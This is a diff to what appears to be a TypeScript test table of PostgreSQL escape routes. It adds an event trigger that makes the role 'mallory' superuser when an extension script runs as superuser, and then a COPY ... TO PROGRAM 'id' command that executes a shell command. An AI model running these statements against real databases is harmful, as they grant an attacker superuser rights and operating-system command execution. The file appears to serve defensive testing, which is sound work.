@@ -46,6 +46,16 @@ export const FILES_AND_PROGRAMS: readonly WayOut[] = [
     ["a superuser's function of the data", `SELECT as_root('id')`],
     ["to make that function a superuser's again", 'ALTER FUNCTION as_root(text) OWNER TO dblab'],
   ]),
+  {
+    title: "the data's event trigger, in the script of an extension, which is run as a superuser",
+    before: [
+      `CREATE OR REPLACE FUNCTION on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN
+         IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN ALTER ROLE mallory SUPERUSER; END IF; END $$`,
+      'CREATE EXTENSION hstore',
+      'DROP EXTENSION hstore',
+    ],
+    sql: `COPY (SELECT 1) TO PROGRAM 'id'`,
+  },
 ]
 
 export const LIBRARIES: readonly WayOut[] = ways([
